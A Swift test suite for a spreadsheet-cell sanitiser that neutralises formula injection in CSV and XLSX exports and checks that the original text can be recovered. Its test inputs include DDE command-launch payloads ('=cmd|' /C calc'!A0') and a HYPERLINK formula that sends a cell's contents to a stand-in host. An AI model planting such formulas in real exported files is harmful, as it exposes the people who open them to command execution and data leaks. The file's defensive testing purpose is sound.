import Foundation
import PropertyBased
import SGWFormats
import SGWTesting
import Testing

/// Cells of files meant for Excel: a text Excel would run as a formula gets a `'` in front, and the text before it
/// can always be had back.
@Suite struct SpreadsheetCellTests {
    @Test(arguments: [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  // a quote already there: one more, so that taking one away gives it back
        ("+8613812345678", "'+8613812345678"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        // Numbers and ordinary text stay as written.
        ("-5", "-5"), ("-0.50", "-0.50"), ("12", "12"), ("a=b", "a=b"), ("'quoted'", "'quoted'"), ("", ""), ("淄博=", "淄博="),
    ])
    func formulasAreDefusedAndNumbersAreNot(_ text: String, _ cell: String) {
        #expect(SpreadsheetCell.defused(text) == cell)
        #expect(SpreadsheetCell.recovered(cell) == text)
    }

    @Test func theOriginalIsAlwaysRecovered() async {
        let pieces = ["=", "+", "-", "@", "'", "\t", "\r", "1", ".", "a", "甲", " "]
        await propertyCheck(count: 500, input: Gen.int(in: 0...(pieces.count - 1)).array(of: 0...6)) { indexes in
            let text = indexes.map { pieces[$0] }.joined()
            let cell = SpreadsheetCell.defused(text)
            #expect(SpreadsheetCell.recovered(cell) == text, "\(text.debugDescription)")
            // What is left in the cell never starts a formula.
            // What is left in the cell starts no formula: a quote, another character, or a plain number.
            if let first = cell.first, "=+-@\t\r".contains(first) { #expect(Double(cell) != nil && !cell.contains("e"), "\(cell.debugDescription)") }
        }
    }

    @Test func csvAndXLSXWritersDefuseEveryCell() throws {
        var w = CSVWriter(encoding: .utf8)
        w.row(["=cmd|' /C calc'!A0", "-5", "@x"])
        #expect(String(decoding: w.take(), as: UTF8.self) == "'=cmd|' /C calc'!A0,-5,'@x\r\n")

        let dir = try TemporaryDirectory()
        defer { dir.remove() }
        let path = dir.path + "/t.xlsx"
        try XLSXWriter.workbook(sheet: "s", rows: [["a", "b"], ["=HYPERLINK(\"http://x\")", "-5"]]).write(to: URL(fileURLWithPath: path))
        var reader = try XLSXRecordReader(path: path, format: XLSXFormat())
        guard case .record(let row)? = try reader.next() else { Issue.record("no row"); return }
        #expect(row["a"] == "'=HYPERLINK(\"http://x\")")
        #expect(row["b"] == "-5")
    }
}
